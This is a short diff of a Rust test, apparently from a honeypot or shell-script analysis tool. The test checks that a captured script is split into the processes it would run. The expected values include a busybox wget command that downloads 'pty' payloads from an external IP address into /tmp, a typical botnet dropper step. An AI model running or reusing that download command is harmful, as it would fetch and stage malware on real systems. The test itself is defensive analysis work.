@@ -124,7 +124,7 @@ fn a_script_becomes_the_processes_that_it_would_run() {
     assert_eq!(told(&run, "/2sh"), "shell_script: 1 read; -");
     let nodes = nodes(&run);
     assert!(!nodes.is_empty(), "no campaign");
-    let has = |command: &str| nodes.iter().any(|it| it.template == command || it.sample.as_deref() == Some(command));
+    let has = |command: &str| nodes.iter().any(|it| *it.template == *command || it.sample.as_deref() == Some(command));
     for (n, pty) in [(1, 1), (2, 3), (3, 5)] {
         for command in [
             format!("/bin/busybox wget -O /tmp/pty{pty} http://159.89.156.190/.y/pty{pty}"),
